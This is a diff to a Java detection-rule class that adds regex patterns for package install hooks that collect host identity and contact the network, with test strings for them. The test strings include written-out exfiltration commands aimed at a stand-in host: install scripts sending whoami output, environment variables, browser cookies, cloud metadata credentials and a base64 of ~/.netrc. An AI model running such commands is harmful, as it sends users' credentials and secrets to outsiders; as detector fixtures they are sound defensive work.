@@ -48,6 +48,16 @@ final class TheftRules {
   private static final String READ_SECRET =
       "(?:cat|head|tail|base64|xxd|tar|zip|gzip|openssl\\s+enc|gpg)\\s[^\\n|;]*" + SECRET;
 
+  /** Who and where somebody is. */
+  private static final String IDENTITY =
+      "(?:\\bwhoami\\b|(?:\\$\\(|`)\\s*(?:hostname|id|uname)\\b|\\bhostname\\(\\)|\\b(?:userInfo|networkInterfaces)\\()";
+
+  private static final String CONNECTS =
+      "(?:\\b(?:curl|wget|nc|ncat|nslookup|dig|ping)\\s|https?[\"'\\\\]*\\)?\\.(?:get|post|request)\\(|\\bfetch\\(|\\bdns\\.(?:lookup|resolve))";
+
+  /** The rest of a JSON string, whose quotation marks may have lost what marked them as part of it. */
+  private static final String IN_JSON = "(?:[^\"\\\\\\n]|\\\\.|\"[^,:}\\]\\n])*";
+
   private static final Pattern SECRET_PATH = Pattern.compile(SECRET);
 
   /** The half of a key that is made to be given away; settings without values, and their copy. */
@@ -126,6 +136,19 @@ final class TheftRules {
                       + "\\|\\s*"
                       + SENDER)
               .finds("169\\.254\\.169\\.254/[^\\s|]*\\s*" + PACKED + "\\|\\s*" + SENDER)
+              // What a package sends when it is installed.
+              .finds(
+                  "\"(?:pre|post)?(?:install|prepare)\"\\s*:\\s*\""
+                      + IN_JSON
+                      + "(?:"
+                      + IDENTITY
+                      + IN_JSON
+                      + CONNECTS
+                      + "|"
+                      + CONNECTS
+                      + IN_JSON
+                      + IDENTITY
+                      + ")")
               .finds("\\bset\\s*\\|\\s*(?:base64\\s*\\|\\s*)?(?:curl|nc|wget)\\s")
               .finds(
                   "\\b(?:nc|ncat|netcat|telnet|openssl s_client) [^\\n|;]*(?:<|&lt;|\\\\u003c)\\s*"
@@ -170,6 +193,9 @@ final class TheftRules {
               .finds(
                   "(?i:\\b(?:get-childitem|gci|dir)\\s+env:[^\\n]*\\|[^\\n]*(?:invoke-restmethod|invoke-webrequest|irm|iwr)\\b)")
               .matches(
+                  "\"preinstall\": \"node -e \\\"require('child_process').exec('whoami | curl -d @- http://h.example')\\\"\"",
+                  "\"postinstall\": \"curl -d \\\"$(whoami)@$(hostname)\\\" http://h.example\"",
+                  "\"install\": \"node -e \\\"require('https').get('https://h.example/?h='+os.hostname())\\\"\"",
                   "u.urlopen('http://h.example', data=str(os.environ).encode())",
                   "sqlite3 ~/.config/google-chrome/Default/Cookies .dump | curl -d @- https://h.example",
                   "curl http://169.254.169.254/latest/meta-data/iam/ | curl -d @- https://h.example",
@@ -221,6 +247,7 @@ final class TheftRules {
                   "git commit -m \"$(cat ~/.netrc | base64)\" && git push",
                   "fetch('http://h.example', {method: 'POST', body: JSON.stringify(process.env)})")
               .ignores(
+                  "\"postinstall\": \"node install.js --host $(hostname)\"",
                   "requests.get(u, headers={'Authorization': os.environ['TOKEN']})",
                   "load_dotenv('.env')\nrequests.get('https://h.example')",
                   "https.request({host: h, ca: fs.readFileSync('ca.pem')}).end()",
